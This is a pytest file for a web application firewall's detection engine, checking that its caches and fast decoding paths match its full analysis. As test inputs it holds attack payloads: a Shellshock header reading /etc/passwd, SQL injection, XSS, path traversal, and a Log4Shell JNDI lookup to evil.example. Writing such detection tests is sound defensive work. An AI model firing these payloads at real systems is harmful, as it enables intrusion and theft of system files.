"""The engine's shortcuts (verdict caches, cheap pre-filters, fast decoding paths) must give
exactly the verdicts of the slow path, stay bounded, and not depend on the machine's load."""

from __future__ import annotations

import html
import random
import re

import pytest

from wallarm_wire.protocol import RequestMessage
from node.detect import decode, readings, sqli
from node.detect import engine as engine_mod
from node.detect.engine import Engine

ATTACK_UA = b"() { :; }; /bin/bash -c 'cat /etc/passwd'"
ATTACK_COOKIE = b"session=abc; pref=' union select password from users--"


@pytest.fixture(scope="module")
def engine() -> Engine:
    return Engine()


def req(target: str = "/", headers: list | None = None, body: bytes = b"", ctype: str | None = None) -> RequestMessage:
    h = [(b"Host", b"app.example"), (b"Accept", b"application/json")] + (headers or [])
    if ctype:
        h.append((b"Content-Type", ctype.encode()))
    return RequestMessage("POST" if body else "GET", target, h, body)


def _summary(det) -> tuple:  # type: ignore[no-untyped-def]
    return det.is_attack, det.score, sorted((a.type, a.location, a.rule_id) for a in det.attacks)


@pytest.mark.parametrize(
    "msg",
    [
        req("/", [(b"User-Agent", ATTACK_UA)]),
        req("/", [(b"Cookie", ATTACK_COOKIE)]),
        req("/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
        req("/api", body=b'{"name": "x\' or 1=1--"}', ctype="application/json"),
        req("/api", body=b"a=1&b=..%2f..%2f..%2fetc%2fpasswd", ctype="application/x-www-form-urlencoded"),
    ],
)
def test_a_cached_verdict_equals_a_fresh_one(engine: Engine, msg: RequestMessage) -> None:
    fresh = _summary(Engine().analyze_request(msg))
    assert fresh[0], "the case must be an attack for this test to mean anything"
    first = _summary(engine.analyze_request(msg))
    second = _summary(engine.analyze_request(msg))  # served from the unit caches
    assert first == second == fresh


def test_a_benign_line_does_not_hide_an_attack_elsewhere(engine: Engine) -> None:
    ua = (b"User-Agent", b"Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0")
    assert not engine.analyze_request(req("/", [ua])).is_attack
    assert not engine.analyze_request(req("/", [ua])).is_attack
    det = engine.analyze_request(req("/x?id=1%27%20or%20%271%27%3D%271", [ua]))
    assert det.is_attack and det.attacks[0].location == "query.id"


def test_the_same_attack_line_twice_is_reported_once(engine: Engine) -> None:
    line = (b"X-Api", b"${jndi:ldap://evil.example/a}")
    det = engine.analyze_request(req("/", [line, line]))
    assert det.is_attack
    assert len({(a.location, a.rule_id) for a in det.attacks}) == len(det.attacks)


def test_caches_are_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(engine_mod, "MAX_UNIT_CACHE", 50)
    monkeypatch.setattr(engine_mod, "MAX_CACHE", 40)
    e = Engine()
    for i in range(300):
        e.analyze_request(req(f"/p/{i}?q=some+words+{i}", [(b"X-Trace", f"t-{i} (x; y)".encode())]))
    assert len(e._unit_cache) <= 50
    assert len(e._cache) <= 40
    # evicted entries are judged again, with the same result
    assert e.analyze_request(req("/", [(b"User-Agent", ATTACK_UA)])).is_attack


def test_cached_verdicts_are_not_tracked_by_the_collector(monkeypatch: pytest.MonkeyPatch) -> None:
    """A full cache replaces one entry per new one, which keeps CPython's young-collection
    trigger from firing: anything tracked that the caches keep piles up until one long
    collection lands inside a request. Cached verdicts must therefore be untracked values
    (bytes), attacks included, and a young collection must run as evictions go on."""
    import gc

    monkeypatch.setattr(engine_mod, "MAX_UNIT_CACHE", 64)
    monkeypatch.setattr(engine_mod, "MAX_CACHE", 64)
    monkeypatch.setattr(engine_mod, "EVICTIONS_PER_COLLECTION", 32)
    collections = []
    monkeypatch.setattr(engine_mod.gc, "collect", lambda generation=2: collections.append(generation))
    e = Engine()
    for i in range(200):
        attack = i % 2 == 0
        target = f"/p/{i}?q=" + ("%27%20or%201%3D1--" if attack else f"word{i}+more+words")
        assert e.analyze_request(req(target, [(b"X-Trace", f"t-{i} (x; y)".encode())])).is_attack is attack
    values = list(e._cache.values()) + list(e._unit_cache.values())
    assert any(values) and all(type(v) is bytes and not gc.is_tracked(v) for v in values)
    assert collections and set(collections) == {0}
    # a verdict served from the cache still names the attack
    det = e.analyze_request(req("/p/198?q=%27%20or%201%3D1--", [(b"X-Trace", b"t-198 (x; y)")]))
    assert det.is_attack and {a.type for a in det.attacks} == {"sqli"} and det.attacks[0].location == "query.q"


def test_oversized_lines_are_judged_every_time_not_cached(engine: Engine) -> None:
    big = b"x" * (engine_mod.MAX_CACHED_UNIT + 10) + b" <script>alert(1)</script>"
    for _ in range(2):
        assert engine.analyze_request(req("/", [(b"X-Big", big)])).is_attack
    assert (b"X-Big", big) not in engine._unit_cache


def test_deadline_counts_cpu_not_waiting(monkeypatch: pytest.MonkeyPatch) -> None:
    """A request preempted on a busy machine (wall clock past the deadline, little CPU used)
    is still judged completely: the verdict must not depend on the load."""
    clock = {"wall": 1000.0}
    monkeypatch.setattr(engine_mod.time, "perf_counter", lambda: clock["wall"])
    e = Engine()
    run = engine_mod._Run(e.threshold)
    clock["wall"] += 5.0  # 5 s of wall clock passed, this thread used almost no CPU
    assert not run.out_of_time()


def test_a_large_requests_clock_starts_with_it(monkeypatch: pytest.MonkeyPatch) -> None:
    """Parsing a large body counts toward its time bound (1 MiB of JSON keys took 280 ms to
    parse before any value was judged); a small request's clock starts at its first check."""
    clock = {"wall": 1000.0, "cpu": 10.0}
    monkeypatch.setattr(engine_mod.time, "perf_counter", lambda: clock["wall"])
    monkeypatch.setattr(engine_mod.time, "thread_time", lambda: clock["cpu"])
    bound = (0.1, 0.0)
    large = engine_mod._Run(Engine().threshold, engine_mod.EARLY_CLOCK_BYTES, deadline=bound)
    small = engine_mod._Run(Engine().threshold, engine_mod.EARLY_CLOCK_BYTES - 1, deadline=bound)
    clock["wall"] += 0.2  # parsing: 200 ms of this thread's CPU before the first check
    clock["cpu"] += 0.2
    assert large.out_of_time()
    assert not small.out_of_time()
    clock["wall"] += 0.2
    clock["cpu"] += 0.2
    assert small.out_of_time()


# ---------------------------------------------------------------------------- fast decoding


def _legacy_entity_decode(value: str) -> str:
    return html.unescape(value) if "&" in value else value


@pytest.mark.parametrize("value", ["a=1&b=2&lt;x", "&ltscript&gt", "&notit;", "&#60&#x3c;", "&amp;lt;",
                                   "&para=1&copy", "&AMP;&Amp;", "&#x110000;", "&unknown; &", "x&&y"])
def test_entity_decode_equals_html_unescape(value: str) -> None:
    assert decode.entity_decode(value) == html.unescape(value)


@pytest.mark.sources_only
def test_fast_paths_equal_the_full_decoder_on_random_values(monkeypatch: pytest.MonkeyPatch) -> None:
    """url_decode's fast path, entity candidates and variants()' early return against a
    reference built from the same primitives without the shortcuts."""
    rng = random.Random(7)
    atoms = ["%", "c0", "ae", "%u", "00", "3c", "e4", "b8", "ad", "ff", "&", "#", "x", ";", "lt", "amp",
             "not", "60", "q", "\udcff", "中", "2e", "/", ".", "a", "=", "%25", "\\u003c", "para", " ",
             "PHNjcmlwdD4=", "Jy1vciAxPTEtLQ==", "{", "}", "\"", ":", "0x2f", "\xa0", "\uff0f"]
    for _ in range(20_000):
        v = "".join(rng.choice(atoms) for _ in range(rng.randint(1, 10)))
        assert decode.entity_decode(v) == _legacy_entity_decode(v), v
        assert readings.variants(v)[0] == v
        fast = readings.variants(v), readings.variants(v, "path")
        # the reference: the same decoder with its early return disabled (a pattern that
        # matches everything makes every value take the full path)
        with monkeypatch.context() as m:
            m.setattr(decode, "_decodable", lambda value, try_base64: True)
            assert fast == (readings.variants(v), readings.variants(v, "path")), v


def test_substring_prefilters_equal_their_regexes_on_random_text() -> None:
    """_needs_decode, _pathish and _decodable answer by substring tests on ASCII text; they
    must say exactly what the character-class regexes they stand for say, on any text."""
    needs_decode_re = re.compile(r"[%&\\+]")
    rng = random.Random(13)
    atoms = ["%", "&", "\\", "+", "\x00", "0x", "0X", "0x2f", "0X5C", "0x2E", "x", "0", "2f", "a", "Z", "9",
             "/", "_", "-", "=", " ", "\xa0", "\u2215", "\uff0f", "\ue123", "中", "é", "\udcff",
             "abcdefghijklm", "ABCDEFGHIJKLMN", "0123456789abcd"]
    for _ in range(30_000):
        v = "".join(rng.choice(atoms) for _ in range(rng.randint(0, 8)))
        assert decode._needs_decode(v) == bool(needs_decode_re.search(v)), v
        assert decode._pathish(v) == bool(decode._PATHISH_RE.search(v)), v
        assert decode._decodable(v, True) == bool(decode._DECODABLE_B64_RE.search(v)), v
        # readings._Search.children's split of it into the escape test and the base64 run
        assert decode._has_b64_run(v) == bool(decode._B64_RUN_RE.search(v)), v
        assert decode._decodable(v, True) == (decode._decodable(v, False) or decode._has_b64_run(v)), v
        assert decode._decodable(v, False) == bool(decode._DECODABLE_RE.search(v)), v


@pytest.mark.parametrize("codec_path", [True, False])
def test_url_decode_fast_path_equals_the_general_path_on_random_values(codec_path: bool, monkeypatch: pytest.MonkeyPatch) -> None:
    """The fast paths (codec, unquote_bytes) against the general (repairing) decoder they short-cut."""
    if not codec_path:
        monkeypatch.setattr(decode, "MAX_CODEC_FAST_PATH", -1)
    rng = random.Random(11)
    atoms = ["%", "%2", "%25", "%zz", "%E4%B8%AD", "%e4%b8", "%C3%A9", "%c0%ae", "%0a", "%00", "%7F",
             "%80", "%FF", "%u0041", "%U0041", "\\", "\\x41", "%5c", "\udcff", "中", "é", "a", "/", "=",
             "\n", "x", "N", "%c0%qf", "%c3", "%C3", "%a9", "%e0%80%af", "%f8%80%80%80%ae", "%fc", "%c1%af",
             "%c9%3c", "\u00c3", "\x80"]
    for _ in range(60_000):
        v = "".join(rng.choice(atoms) for _ in range(rng.randint(1, 12)))
        assert decode.url_decode(v) == decode.url_decode_repairing(v), v


def test_url_decode_fast_path_keeps_overlong_and_broken_handling() -> None:
    assert decode.url_decode("%c0%ae%c0%ae%2f") == "../"
    assert decode.url_decode("%e4%b8%ad%e6%96%87") == "中文"
    assert decode.url_decode("a%u003cb") == "a<b"
    assert decode.url_decode("x%ff%fe%41") == "x\xff\xfeA"


def test_binary_lone_bytes_are_bounded() -> None:
    blob = "%" + "\udcff\udcfe a " * 5000
    out = decode.url_decode(blob)
    assert out.count("\xff") == decode.MAX_LONE_BYTE_RUNS  # first runs mapped, rest kept


def test_a_small_request_is_judged_whole_even_past_the_deadline() -> None:
    """A collector pause before the first value must not turn an attack into a pass."""
    e = Engine(deadline=(0.0, 0.0))  # no time at all: spent as soon as the clock starts
    det = e.analyze_request(req("/?p=..%2F..%2F..%2F..%2Fproc%2Fself%2Ffd%2F13"))
    assert det.is_attack and not det.partial
    # a big request is still cut once the guaranteed part is judged
    big = req("/", body=("&".join(f"f{i}=" + "a b " * 3000 for i in range(40))).encode(),
              ctype="application/x-www-form-urlencoded")
    assert e.analyze_request(big).partial == ["deadline"]


def test_isalnum_is_a_subset_of_the_safe_value_class() -> None:
    """_judge_fields dismisses `value.isalnum() or _SAFE_RE.fullmatch(value)`: every
    character isalnum() accepts must be one the regex accepts, or a value would be skipped
    that the regex sends to judging."""
    chars = "".join(chr(c) for c in range(0x110000) if chr(c).isalnum())
    assert engine_mod._SAFE_RE.fullmatch(chars)
    assert not "".isalnum()  # and the empty value still goes to the regex


# ---------------------------------------------------------------------------- SQL analyser


_SQL_ATOMS = ["(", ")", "'", '"', " ", "or", "and", "not", "1", "=", "select", "from", "t", "where", "--", ";",
              "#", "sleep", ",", "x", "a.b", "@@v", "/*", "*/", "-", "||", "&&", "union", "order", "by", "is",
              "null", "drop", "table", "+", "like", "@a", "0x1", "<", ">", "in", "into", "exec", "xp_x", "concat",
              "char", "\n", "\u212a", "having", "{", ":", "https://a.b/c"]
# the words that make a context need its whole token stream, left out to exercise the head
_HEAD_ATOMS = [a for a in _SQL_ATOMS if a not in ("select", "where", "union", "||", "drop", "exec", "having")]


def _judged(text: str, broke_out: bool, tokens: list) -> str | None:
    return sqli._judge(([(sqli.STR, "'")] if broke_out else []) + tokens, broke_out)


def test_sql_head_of_the_token_stream_judges_like_the_whole_stream() -> None:
    """context_tokens may stop tokenizing after a head of the stream; _judge must then say
    exactly what it says on the whole stream, in both contexts, whatever the text."""
    rng = random.Random(17)
    shortened = fired = from_start = 0
    for n in range(15_000):
        atoms = _SQL_ATOMS if n % 3 == 0 else _HEAD_ATOMS
        sep = " " if n % 2 else ""
        text = sep.join(rng.choice(atoms) for _ in range(rng.randint(1, 60)))
        for broke_out in (False, True):
            head, whole = sqli.context_tokens(text, broke_out), sqli.tokenize(text)
            verdict = _judged(text, broke_out, head)
            assert verdict == _judged(text, broke_out, whole), (broke_out, text)
            if len(head) < len(whole):
                shortened += 1
                fired += verdict is not None
                from_start += len(head) <= 2
    # the fuzz reached both shortcuts (a head, the first two tokens), firing rules too
    assert shortened - from_start > 500 and from_start > 500 and fired > 20


def test_unquote_bytes_is_urllibs_unquote_to_bytes() -> None:
    """decode.unquote_bytes replaces urllib's per-'%' Python loop with C-level steps."""
    import random
    from urllib.parse import unquote_to_bytes

    from node.detect.decode import unquote_bytes

    alphabet = b"%%%%%\\\\0123456789abcdefABCDEFxyz\x80\xff\x00 uU+"
    rnd = random.Random(1)
    for _ in range(20_000):
        data = bytes(rnd.choice(alphabet) for _ in range(rnd.randint(0, 12)))
        assert unquote_bytes(data) == unquote_to_bytes(data), data
    # every '%' a valid escape (one replace, no regex), and one invalid '%' among them
    atoms = [b"%41", b"%2F", b"%e4%b8%ad", b"%5C", b"\\", b"\\x41", b"a", b"%%", b"%4", b"%zz", b"\xff"]
    for _ in range(5_000):
        data = b"".join(rnd.choice(atoms[:7]) for _ in range(rnd.randint(1, 40)))
        assert unquote_bytes(data) == unquote_to_bytes(data), data
        bad = data + rnd.choice(atoms[7:]) + data
        assert unquote_bytes(bad) == unquote_to_bytes(bad), bad


@pytest.mark.sources_only
def test_escape_shape_prefilters_change_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    """url_decode_repairing, unquote_bytes and path_canonical skip a regex when the text's
    escape shapes (one bytes.translate) say it cannot match; the reference runs every regex
    (a shape that holds every pattern looked for); unquote_bytes's reference is urllib's."""
    from urllib.parse import unquote_to_bytes

    rng = random.Random(23)
    atoms = ["%", "%%", "%c0", "%ae", "%c0%ae", "%e0%80%af", "%f0%80%80%af", "%f8%80%80%80%ae", "%c0%qf", "%qf",
             "%bg", "%gz", "%2f", "%4", "%u002f", "%U002F", "%ſ0", "%\u212a0", "%\u0131x", "%\u0130a", "%aſ", "a",
             "Z", "9", "/", "\\", "\udcff", "中", "é", "\ue123", "\uff0f", "0x2f", "%C1%AF", "%e4%b8%ad", "%zz"]
    for _ in range(40_000):
        v = "".join(rng.choice(atoms) for _ in range(rng.randint(1, 10)))
        fast = decode.url_decode_repairing(v), decode.path_canonical(v), decode.unquote_bytes(v.encode("utf-8", "surrogatepass"))
        with monkeypatch.context() as m:
            m.setattr(decode, "_shapes", lambda text, table: b"%lh% %ll% %g %hg %lg %hh")
            ref = decode.url_decode_repairing(v), decode.path_canonical(v), unquote_to_bytes(v.encode("utf-8", "surrogatepass"))
        assert fast == ref, v


def test_translate_checks_equal_their_regexes_on_random_text() -> None:
    """_safe, _b64_whole, _decodable's base64 run and js_unescape's escape test answer ASCII
    text by bytes.translate; they must say what the regexes they stand for say."""
    rng = random.Random(29)
    atoms = ["A", "z", "9", "_", "-", ".", "+", "/", "=", "==", "===", "\n", " ", "\t", "\x1c", "\x0b", "\\",
             "\\u", "\\x", "\\7", "\\8", "u", "x", "0041", "41", "{", "}", ";", "<", "é", "\xa0", "\u2003",
             "\u212a", "中", "abcdefghijklmn", "ABCDEFGHIJ0123", "%", "&", "0x"]
    for _ in range(40_000):
        v = "".join(rng.choice(atoms) for _ in range(rng.randint(0, 12)))
        assert engine_mod._safe(v) == bool(engine_mod._SAFE_RE.fullmatch(v)), v
        assert decode._b64_whole(v) == bool(decode._B64_WHOLE_RE.match(v)), v
        assert decode._decodable(v, True) == bool(decode._DECODABLE_B64_RE.search(v)), v
        # readings._Search.children's split of it into the escape test and the base64 run
        assert decode._has_b64_run(v) == bool(decode._B64_RUN_RE.search(v)), v
        assert decode._decodable(v, True) == (decode._decodable(v, False) or decode._has_b64_run(v)), v
        assert decode.js_unescape(v) == decode._JS_ESC_RE.sub(decode._js_esc, v), v



def test_base64_text_tests_in_c_equal_the_character_walks() -> None:
    """b64_token's printable test (bytes.translate on ASCII, the class regex otherwise) and
    _printable_ratio (translate on ASCII, str.isprintable mapped in C otherwise) say what the
    regex and the per-character loop they replace say, so base64 decodes to the same text."""
    import base64

    def ratio(text: str) -> float:
        return sum(1 for c in text if c.isprintable() or c in "\r\n\t") / len(text) if text else 0.0

    def decoded(token: str) -> str | None:  # b64_token as it was: the class regex on every text
        raw = base64.b64decode(token + "=" * (-len(token) % 4))
        text = raw.decode("ascii") if raw.isascii() else raw.decode("utf-8", "replace")
        if not raw.isascii() and "\ufffd" in text and b"\xef\xbf\xbd" not in raw:
            return None
        if decode._NONPRINT_RE.search(text) and ratio(text.rstrip("\x00")) < 0.95:
            return None
        return text

    ascii_chars = [chr(c) for c in range(128)]
    text_ascii = set(decode.TEXT_ASCII)
    assert text_ascii == {ord(c) for c in ascii_chars if not decode._NONPRINT_RE.match(c)}
    assert text_ascii == {ord(c) for c in ascii_chars if c.isprintable() or c in "\r\n\t"}
    from node.detect import windows  # the same table tells a control character there

    assert text_ascii == {ord(c) for c in ascii_chars if not windows._CONTROL_RE.match(c)}
    rng = random.Random(31)
    atoms = ["a", "Z", " ", "\r", "\n", "\t", "\x00", "\x01", "\x1f", "\x7f", "\x85", "\xa0", "é", "\u2028",
             "\u200b", "\ufffd", "\U0001f600", "中", "text", "\x0b"]
    for _ in range(20_000):
        text = "".join(rng.choice(atoms) for _ in range(rng.randint(0, 40)))
        assert decode._printable_ratio(text) == ratio(text), repr(text)
        token = base64.b64encode(text.encode("utf-8", "surrogatepass")).decode().rstrip("=")
        if token:
            assert decode.b64_token(token) == decoded(token), repr(text)


# ---------------------------------------------------------------------------- trivial fields

_TOKEN_ATOMS = ["a", "B", "z", "7", "_", "-", ".", "..", "0x", "0X", "whoami", "WhoAmI", "uname", "netstat",
                "ifconfig", "IFCONFIG", "abcdefgh", "ABCDEFGH", "%41", "+", "<", "'", "é", "=", "&", ";", " "]


def _judged_fields(fields: list[tuple[str, str, str]]) -> set[tuple[str, str, str]]:
    """The fields Engine._judge_fields sends to judging (the others it dismisses unjudged)."""
    e = _ENGINE
    e.judged = []
    try:
        e._cache.clear()
        e._judge_fields(engine_mod._Run(e.threshold), fields)
        return set(e.judged)
    finally:
        e.judged = None


_ENGINE = Engine()


def test_every_trivial_token_is_dismissed_by_the_engine() -> None:
    from node.detect import trivial
    from node.detect.trivial import TOKEN_RE

    rng = random.Random(37)
    tokens = 0
    for _ in range(20_000):
        v = "".join(rng.choice(_TOKEN_ATOMS) for _ in range(rng.randint(1, 5)))
        if TOKEN_RE.fullmatch(v):
            tokens += 1
            for kind, loc in (("form", "body.form.x"), ("key", "json.x"), ("json", "json.x"), ("header", "header.x-a"),
                              ("query", "query.q"), ("cookie", "cookie.c")):
                assert not _judged_fields([(kind, loc, v)]), (kind, v)
            if trivial.SHORT_TOKEN_BYTES_RE.fullmatch(v.encode()):
                assert not _judged_fields([("header", "header.user-agent", v)]), v
    assert tokens > 2000
    # the bulk filters find exactly the values that are not tokens
    values = ["".join(rng.choice(_TOKEN_ATOMS) for _ in range(rng.randint(0, 4))) for _ in range(5000)]
    values = [v for v in values if "\n" not in v]
    # (less the short ones the engine dismisses after all: tested here the engine's way)
    values += ["O2lk", "JChpZCk", "whoami", "WhoAmI", "userId", "KikoJik", "McD"]
    keys = trivial.nontrivial_keys(values)
    assert keys is not None and keys <= {v for v in values if not TOKEN_RE.fullmatch(v)}
    assert {"O2lk", "JChpZCk", "whoami", "KikoJik"} <= keys
    for v in set(values) - keys:
        assert not _judged_fields([("key", "json.x", v)]), v
    raw = [v.encode("utf-8") for v in values]
    headers = trivial.nontrivial_header_values(raw)
    assert headers is not None and headers <= {v for v in raw if not trivial.SHORT_TOKEN_BYTES_RE.fullmatch(v)}
    assert {b"O2lk", b"whoami"} <= headers
    for v in set(raw) - headers:
        assert not _judged_fields([("header", "header.x-a", v.decode())]), v
    assert trivial.nontrivial_keys(["a", "b\nc"]) is None


@pytest.mark.sources_only
def test_stripped_pairs_and_filtered_objects_leave_the_judged_fields_unchanged(monkeypatch: pytest.MonkeyPatch) -> None:
    """parse_pairs without the trivial pairs, and large JSON objects without their trivial
    members, hand the engine exactly the fields it judges without the shortcut."""
    import json

    from node.detect import request, trivial

    rng = random.Random(41)

    def token() -> str:
        return "".join(rng.choice(_TOKEN_ATOMS) for _ in range(rng.randint(0, 4)))

    def parsed(text: str, is_json: bool, shortcut: bool) -> list[tuple[str, str, str]]:
        with monkeypatch.context() as m:
            if not shortcut:
                m.setattr(request, "strip_trivial_pairs", lambda t: t)
                m.setattr(request, "MIN_FILTERED_OBJECT", 1 << 30)
            sink = request.FieldSink()
            if is_json:
                request.parse_json(text, sink)
            else:
                request.parse_pairs(text, "body.form", "form", sink)
            return sink.fields

    for n in range(300):
        count = rng.randint(60, 200)
        if n % 2:
            doc = {token(): rng.choice([1, None, True, token(), [token()], {token(): token()}]) for _ in range(count)}
            text, is_json = json.dumps(doc), True
        else:
            text, is_json = "&".join(f"{token()}={token()}" if rng.random() < 0.9 else token() for _ in range(count)), False
            text += "&pad=" + "p" * trivial.MIN_STRIPPED_TEXT
        fast, slow = parsed(text, is_json, True), parsed(text, is_json, False)
        assert len(fast) <= len(slow)
        assert _judged_fields(fast) == _judged_fields(slow), text


def test_filtered_header_lines_give_the_same_verdict(monkeypatch: pytest.MonkeyPatch) -> None:
    rng = random.Random(43)
    found = 0
    attacks = [b"<script>alert(1)</script>", b"' OR 1=1--", b"${jndi:ldap://x/a}", b"whoami", b"; cat /etc/passwd"]
    for n in range(40):
        lines = [(b"Host", b"h.test")] + [
            (rng.choice([b"X-A", b"Cookie", b"Referer", b"User-Agent"]),
             rng.choice(attacks) if rng.random() < 0.02 else "".join(rng.choice(_TOKEN_ATOMS) for _ in range(rng.randint(1, 3))).encode())
            for _ in range(rng.randint(65, 200))]
        msg = RequestMessage("GET", "/", lines)
        verdicts = []
        for limit in (engine_mod.MIN_FILTERED_HEADERS, 1 << 30):
            monkeypatch.setattr(engine_mod, "MIN_FILTERED_HEADERS", limit)
            det = _ENGINE.analyze_request(msg)
            verdicts.append((det.score, sorted((a.type, a.location, a.rule_id) for a in det.attacks), det.partial))
        assert verdicts[0] == verdicts[1], lines
        found += bool(verdicts[0][1])
    assert found > 10


# ---------------------------------------------------------------------------- the benign tail (issue 14)

_TAIL_ATOMS = ["'", '"', "`", "\\", ";", ",", "+", "-", ":", "=", "==", ")", "]", "}", "}catch", " ", "\n", "\t",
               "\x01", "\x1f", "\x7f", "\x85", "é", "ſelf", "\u212aey", "alert", "ALERT(", "(", "`x`", "top", "desktop",
               "this.", "self[", "window.name", "document . cookie", "location=", "new function", "new  Function",
               "constructor.constructor", "on", "onload", "onload=", "ONFOCUS =", "x onerror=alert(1)", "&", "&&",
               "|", "||", "$(", "${IFS}", "$IFS", "{", "{ls", "a", "Z", "9", "_", "$", "print", "fetch `", "open (",
               "eval(", "Confirm (", "?.", "document.", "atob(", "String.fromCharCode", "parent[", "frames [", "[", "]",
               "globalThis", "İ", "ı", "setTimeout("]


def test_tail_shortcuts_equal_their_regexes_on_random_text() -> None:
    """The sixth pass's shortcuts (docs/detection.md, "The benign tail after issue 14") say what
    the regexes they stand for say, on any text."""
    from node.detect import shell, windows, xss

    old_breakout = re.compile(r"""\\?["'`][\s)\]}]*(?:[;,+\-*/|&^%<>=?:]|\}\s*catch\b)""")
    with_start = {seps: re.compile("(?:^|" + seps.pattern + ")", re.I) for seps in (shell._SEP_RE, shell._TEXT_SEP_RE)}
    rng = random.Random(41)
    for _ in range(30_000):
        v = "".join(rng.choice(_TAIL_ATOMS) for _ in range(rng.randint(0, 14)))
        assert windows._has_control(v) == bool(windows._CONTROL_RE.search(v)), v
        end = rng.randint(0, len(v))
        assert xss._sink_after(v, end) == bool(xss._JS_SINK_RE.search(v, end, end + 256)), (v, end)
        assert xss._js_call(v, v.lower()) == bool(xss._JS_CALL_RE.search(v)), v
        old, new = old_breakout.search(v), xss._JS_BREAKOUT_RE.search(v)
        assert (old and old.end()) == (new and new.end()), v
        assert xss._HANDLER_HINT_RE.search(v) or not xss._ATTR_HANDLER_RE.search(v), v
        for seps, reference in with_start.items():
            assert list(shell._separators(seps, v)) == [(m.start(), m.end(), m.group()) for m in reference.finditer(v)], v


_GLOB_ATOMS = ["/", "b", "i", "n", "usr", "?", "*", "[", "]", "[]", "c", "a", "t", "s", "l", "/bin/", "/usr/bin/",
               "/sbin/", "/usr/local/bin/", "??", "id", "cat", "nc", "w", "e", "h", "o", "x", "-", ".", "İ", "K", "cgi",
               "[a-z]", "[!a]", "py"]


def test_glob_command_head_test_equals_the_regex_walk() -> None:
    """glob_command answers a glob whose literal head no target line starts with by a
    bisection (a URL with '?' in a query value): the same answer as the regex over all the
    targets, on globs that do and do not name a command."""
    from node.detect import shell

    def walk(pattern: str) -> str | None:
        rx = shell._glob_regex(pattern.lower())
        m = rx.search(shell._GLOB_TARGETS) if rx else None
        return m.group(0).rsplit("/", 1)[1] if m else None

    rng = random.Random(43)
    named = 0
    for _ in range(20_000):
        glob = "".join(rng.choice(_GLOB_ATOMS) for _ in range(rng.randint(0, 8)))
        assert shell.glob_command(glob) == walk(glob), glob
        named += walk(glob) is not None
    assert named > 20
    assert shell.glob_command("/b??/c?t") == "cat" and shell.glob_command("/cgi-bin/list.cgi?q") is None


def test_glob_walk_of_lines_of_its_length_and_head_equals_the_walk_of_all() -> None:
    """glob_command walks only the command paths that start with the glob's head and, without
    `*`, have its length, and makes no regex when a run of its literal characters is in none of
    them: the same answer as the regex over all the targets in their order (the first match
    wins there, whichever directory it is in), on globs made from real command paths with
    characters turned into `?`, `*`, sets and other letters."""
    from node.detect import shell

    def walk(pattern: str) -> str | None:
        rx = shell._glob_regex(pattern.lower())
        m = rx.search(shell._GLOB_TARGETS) if rx else None
        return m.group(0).rsplit("/", 1)[1] if m else None

    targets = shell._GLOB_TARGETS.split("\n")
    rng = random.Random(44)
    named = 0
    for _ in range(20_000):
        chars = list(rng.choice(targets))
        for _ in range(rng.randint(1, 4)):
            at = rng.randrange(len(chars))
            chars[at] = rng.choice(["?", "*", "x", "[a-z]", f"[{chars[at]}q]", "", "/", "??", "a"])
        glob = "".join(chars)
        assert shell.glob_command(glob) == walk(glob), glob
        named += walk(glob) is not None
    assert named > 2_000


def test_an_empty_bracket_is_a_bracket_not_a_broken_glob() -> None:
    """`[]` made an empty regex class (re.error: the shell analyser failed and the verdict
    went partial); it is a literal bracket now."""
    from node.detect import shell

    for glob in ("[]", "/bin/[]", "/bin/c[]at", "/usr/bin/[]x]"):
        assert shell._glob_regex(glob) is not None
        assert shell.glob_command(glob) is None


def test_normalise_of_joined_pieces_equals_the_run_substitution() -> None:
    """normalise makes each piece separator a space by str.replace and lets the blank-run pass
    merge them: the same text as substituting each run of control characters by one space."""
    from node.detect import windows

    def reference(text: str) -> str:
        if len(windows._CONTROL_RE.findall(text, 0, 256)) - text.count(windows.PIECE_SEPARATOR, 0, 256) > \
                windows.BINARY_CONTROLS:
            text = " ".join(windows._PRINTABLE_RUN_RE.findall(text))
        elif windows._CONTROL_RE.search(text):
            text = windows._CONTROL_RUN_RE.sub(" ", text)
        if "  " in text or "\t" in text:
            text = windows._BLANK_RUN_RE.sub(" ", text)
        if "\r" in text:
            text = text.replace("\r\n", "\n").replace("\r", "\n")
        if "\n\n" in text or "\n \n" in text:
            text = windows._BREAK_RUN_RE.sub("\n", text)
        return text

    atoms = ["\x1f", "\x1f\x1f", "\x01", "\x7f", "\ufffd", " ", "  ", "\t", "\n", "\r", "a", "bc", "é", "<", "'"]
    rng = random.Random(44)
    for _ in range(30_000):
        text = "".join(rng.choice(atoms) for _ in range(rng.randint(0, 16)))
        windows.normalise.cache_clear()
        assert windows.normalise(text) == reference(text), repr(text)


def test_whole_value_base64_from_the_token_cache_equals_the_decoder() -> None:
    rng = random.Random(43)
    atoms = ["A", "z", "9", "+", "/", "_", "-", "=", " ", "\t", "\n", "\x1f", "é", "PHNjcmlwdD4=", "serviceType",
             "Jy1vciAxPTEtLQ", "L2V0Yy9wYXNzd2Q="]
    for _ in range(20_000):
        v = "".join(rng.choice(atoms) for _ in range(rng.randint(1, 8)))
        if decode._b64_whole(v):
            assert readings._whole_decoded(v) == decode.b64_decode(v), v


def test_prefilter_databases_pick_the_readings_the_whole_set_picks(engine: Engine) -> None:
    """Engine._detector_texts scans each reading by the analyser's own pre-filters: the same
    readings as a scan by every signature, kept where one of the analyser's matched."""
    from node.detect.windows import normalise

    sigs = engine.request_sigs.signatures
    rng = random.Random(47)
    atoms = ["' or 1=1--", "<img src=x onerror=alert(1)>", ";cat /etc/passwd", "../../etc/passwd", "${jndi:ldap://x}",
             "{{7*7}}", '{"$ne": 1}', "*)(uid=*", "http://127.0.0.1/", "<!DOCTYPE x [", "hello world", "a=1&type=2"]
    for _ in range(300):
        forms = [" ".join(rng.choice(atoms) for _ in range(rng.randint(1, 3))) for _ in range(rng.randint(2, 4))]
        hits_per_form = [engine.request_sigs.scan(("\n" + f + "\n").encode()) for f in forms]
        for detector in engine_mod._DETECTORS:
            prefilters = {i for i, sig in enumerate(sigs) if sig.detector == detector}
            expected = list(dict.fromkeys(normalise(f) for f, h in zip(forms, hits_per_form) if prefilters & h))
            assert engine._detector_texts(detector, readings.Readings(forms, False)) == expected, (detector, forms)


def test_each_reading_of_a_value_is_normalised_once_for_all_its_analysers(monkeypatch: pytest.MonkeyPatch) -> None:
    """The analysers a value calls ask for its readings in turn; windows.normalise keeps only
